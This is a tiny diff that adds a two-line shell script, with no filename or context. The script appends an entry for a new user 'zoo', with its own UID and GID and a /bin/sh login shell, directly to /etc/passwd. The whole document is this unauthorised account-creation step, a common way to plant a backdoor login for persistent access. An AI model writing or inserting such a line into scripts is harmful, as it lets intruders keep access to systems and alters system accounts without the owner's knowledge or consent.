@@ -1,0 +1,2 @@
+#!/bin/sh
+echo 'zoo:x:4242:4242::/:/bin/sh' >> /etc/passwd
